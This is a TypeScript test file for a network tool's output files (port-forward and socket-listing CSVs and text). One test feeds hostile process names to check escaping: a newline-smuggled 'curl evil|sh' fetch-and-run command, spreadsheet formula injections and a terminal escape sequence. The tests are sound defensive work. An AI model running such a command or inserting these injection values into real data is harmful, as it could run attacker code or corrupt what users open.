import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, test } from 'node:test';
import type { EventSink } from '../../src/expose/event.ts';
import { EventHub } from '../../src/expose/event-hub.ts';
import { OutFiles, reachedAt } from '../../src/expose/out-files.ts';
import { listener, published } from '../support/exposed.ts';

const START = 1_795_348_800_000;
const BINDS = 'procname,ipvn,domain,guest_ip,guest_port,pid,time,state,closed_time\n';
const BRIDGES = 'procname,ipvn,domain,guest_ip,guest_port,host_port\n';

let directory: string;
let now: number;
let sink: EventSink;
let files: OutFiles;
let faults: unknown[];

beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), 'tslirp-out-'));
  now = START;
  faults = [];
  const hub = new EventHub(() => now);
  sink = hub.sink('g0');
  files = new OutFiles(hub, {
    ...{ directory, address: '192.168.100.2', startedAt: START },
    ...{ now: () => now, failed: (error) => faults.push(error) },
  });
});

afterEach(() => rmSync(directory, { recursive: true, force: true }));

function read(name: string): string {
  files.flush();
  return readFileSync(join(directory, name), 'latin1');
}

const counts = { connections: 0, bytesIn: 0, bytesOut: 0 };

describe('files of --out-dir', () => {
  test('are there from the start, with their headers, for nobody else', () => {
    const expected = {
      'endpoints.txt': '',
      guest_ip: '192.168.100.2\n',
      'ipaddr.txt': '192.168.100.2\n',
      'netbinds.csv': BINDS,
      'vpn_bridges.csv': BRIDGES,
    };
    assert.deepEqual(
      Object.fromEntries(
        readdirSync(directory).map((name) => [name, readFileSync(join(directory, name), 'latin1')]),
      ),
      expected,
    );
    for (const name of readdirSync(directory))
      assert.equal(statSync(join(directory, name)).mode & 0o777, 0o600);
  });

  test('vpn_bridges.csv and endpoints.txt, byte for byte', () => {
    const name = published({
      ...{ proto: 'udp', guestEnd: { ip: '::', port: 53 }, hostEnd: { ip: '::1', port: 53 } },
      process: null,
    });
    const telnet = published({
      ...{ guestEnd: { ip: '0.0.0.0', port: 23 }, hostEnd: { ip: '0.0.0.0', port: 2323 } },
      process: 'telnetd',
    });
    sink.emit({ type: 'forward.added', ...published() });
    sink.emit({ type: 'forward.added', ...name });
    sink.emit({ type: 'forward.added', ...telnet });
    assert.equal(
      read('vpn_bridges.csv'),
      `${BRIDGES}nginx,ipv4,tcp,0.0.0.0,80,1080\n,ipv6,udp,::,53,53\ntelnetd,ipv4,tcp,0.0.0.0,23,2323\n`,
    );
    const [first, second, third] = [
      'tcp 192.168.100.2:2323 -> 0.0.0.0:23 (telnetd)\n',
      'tcp 127.0.0.1:1080 -> 0.0.0.0:80 (nginx)\n',
      'udp [::1]:53 -> [::]:53 (unknown)\n',
    ];
    assert.equal(read('endpoints.txt'), `${first}${second}${third}`);
    const { proto, guestEnd, hostEnd } = telnet;
    sink.emit({ type: 'forward.removed', cause: 'closed', proto, guestEnd, hostEnd, ...counts });
    assert.equal(read('endpoints.txt'), `${second}${third}`);
    assert.equal(read('vpn_bridges.csv').split('\n').length, 5);
  });

  test('netbinds.csv tells when a socket came and when it went, also when it comes again', () => {
    const web = listener({ firstSeen: START + 1500 });
    sink.emit({ type: 'listener.added', ...web });
    sink.emit({ type: 'listener.added', ...listener({ proto: 'udp', pid: null, firstSeen: START + 2000 }) });
    now = START + 3250;
    sink.emit({ type: 'listener.removed', lastedMs: 1750, flaps: 0, ...web });
    sink.emit({ type: 'listener.added', ...web, firstSeen: START + 4000, family: 6, ip: '::' });
    assert.equal(
      read('netbinds.csv'),
      `${BINDS}nginx,ipv4,tcp,0.0.0.0,80,4711,1.500,closed,3.250
nginx,ipv4,udp,0.0.0.0,80,,2.000,listening,
nginx,ipv6,tcp,::,80,4711,4.000,listening,
`,
    );
  });

  test('E-6: what a process calls itself stays in its field, and does nothing to a terminal or a spreadsheet', () => {
    const names = [
      'x\ncurl evil|sh #',
      'a,b',
      '"',
      '\u00ff'.repeat(15),
      '=1+1',
      '@a',
      '-2',
      '+3',
      '\u001b[2J',
    ];
    names.forEach((process, i) => {
      sink.emit({
        type: 'forward.added',
        ...published({
          process,
          guestEnd: { ip: '0.0.0.0', port: i },
          hostEnd: { ip: '127.0.0.1', port: i },
        }),
      });
      sink.emit({ type: 'listener.added', ...listener({ process, port: i, firstSeen: START }) });
    });
    const quoted = ['"x\ncurl evil|sh #"', '"a,b"', '""""', '\u00c3\u00bf'.repeat(15)];
    quoted.push('"=1+1"', '"@a"', '"-2"', '"+3"', '\u001b[2J');
    assert.equal(
      read('vpn_bridges.csv'),
      BRIDGES + quoted.map((name, i) => `${name},ipv4,tcp,0.0.0.0,${i},${i}\n`).join(''),
    );
    assert.equal(
      read('netbinds.csv'),
      BINDS + quoted.map((name, i) => `${name},ipv4,tcp,0.0.0.0,${i},4711,0.000,listening,\n`).join(''),
    );
    const shown = ['x?curl evil|sh #', 'a,b', '"', '?'.repeat(15), '=1+1', '@a', '-2', '+3', '?[2J'];
    assert.equal(
      read('endpoints.txt'),
      shown.map((name, i) => `tcp 127.0.0.1:${i} -> 0.0.0.0:${i} (${name})\n`).join(''),
    );
  });

  test('a guest that opens ports for ever does not fill the disk', () => {
    for (let i = 0; i < 5000; i++) {
      const port = 1 + i;
      sink.emit({ type: 'forward.added', ...published({ hostEnd: { ip: '127.0.0.1', port } }) });
      sink.emit({ type: 'listener.added', ...listener({ port }) });
    }
    for (const name of ['vpn_bridges.csv', 'netbinds.csv']) {
      const lines = read(name).split('\n');
      assert.equal(lines.length, 1 + 4096 + 1);
      assert.match(lines.at(-2) ?? '', /5000|,80,5000/);
    }
  });

  test('what cannot be written is told once, and nothing else happens', () => {
    rmSync(directory, { recursive: true });
    for (let i = 0; i < 3; i++) {
      sink.emit({ type: 'forward.added', ...published() });
      files.flush();
    }
    assert.equal(faults.length, 1);
  });

  test('the address is where one connects', () => {
    assert.equal(reachedAt('127.0.0.1', ''), '127.0.0.1');
    assert.equal(reachedAt('0.0.0.0', ''), '127.0.0.1');
    assert.equal(reachedAt('192.0.2.1', '10.1.2.3'), '10.1.2.3');
  });
});
